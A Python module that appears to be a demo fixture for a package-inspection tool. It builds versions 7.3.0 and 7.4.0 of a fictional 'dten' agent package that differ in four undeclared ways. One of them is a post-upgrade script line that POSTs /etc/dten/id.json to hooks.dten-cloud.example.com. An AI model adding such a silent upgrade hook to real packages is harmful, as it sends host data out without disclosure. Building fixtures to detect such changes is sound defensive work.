"""Two versions of a real-world-style package, built as the vendor's tooling builds them (shipgate.demo.build):
7.3.0 and 7.4.0 of dten differ in exactly four ways the 7.4.0 manifest does not state —
- ``config/dten.properties`` loses ``dten.cache.legacy`` (removed, not declared);
- the agent's unit ``units/dten-agentd.service`` becomes ``units/dten-agent.service`` (same ExecStart);
- ``binaries/dtend`` carries a new flag, ``dten.backoff.v2``;
- ``scripts/post-upgrade.sh`` registers with a new host, ``hooks.dten-cloud.example.com``.
Everything else is equal, apart from the version strings inside the binary and scripts."""

from __future__ import annotations

from pathlib import Path

from shipgate.demo.build import PackageFile, PackageSpec

VENDOR = "Example Networks"
ELF = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 56


def _binary(version: str, flags: tuple[bytes, ...]) -> bytes:
    strings = b"\x00".join((b"--config", b"--foreground", b"dten.cache.size", *flags))
    return ELF + f"dtend {version}".encode() * 512 + b"\x00" + strings + b"\x00" + b"\x90" * 4096


def _unit(description: str) -> bytes:
    return (f"[Unit]\nDescription={description}\nAfter=network-online.target\n\n[Service]\n"
            "ExecStart=/opt/dten/bin/dten-agent --config /etc/dten/agent.properties\nUser=dten\n\n"
            "[Install]\nWantedBy=multi-user.target\n").encode()


def version_files(version: str) -> dict[str, PackageFile]:
    new = version == "7.4.0"
    properties = b"# dten agent\ndten.cache.size = 512\n" + (b"" if new else b"dten.cache.legacy = true\n")
    register = b"curl -fsS -X POST -d @/etc/dten/id.json https://hooks.dten-cloud.example.com/register\n"
    post = (b"#!/bin/sh\nset -e\nsystemctl daemon-reload\n" + (register if new else b"")
            + b"curl -fsS https://updates.example.net/dten/ack\n")
    unit = "units/dten-agent.service" if new else "units/dten-agentd.service"
    return {
        "binaries/dtend": PackageFile(data=_binary(version, (b"dten.backoff.v2",) if new else ()), mode=0o755),
        "config/dten.properties": PackageFile(data=properties),
        unit: PackageFile(data=_unit("dten agent")),
        "scripts/post-upgrade.sh": PackageFile(data=post, mode=0o755),
        "docs/README.md": PackageFile(data=b"# dten\nSet dten.cache.size to the cache size in MiB.\n"),
    }


def build_version(path: Path, version: str) -> Path:
    spec = PackageSpec(
        files=version_files(version),
        package={"name": "dten", "version": version, "vendor": VENDOR, "built": "2026-10-02T09:00:00Z"},
        fields={"hooks": {"post": "scripts/post-upgrade.sh"},
                "services": ["dten-agent.service" if version == "7.4.0" else "dten-agentd.service"]},
    )
    return spec.build(path, signer=None)
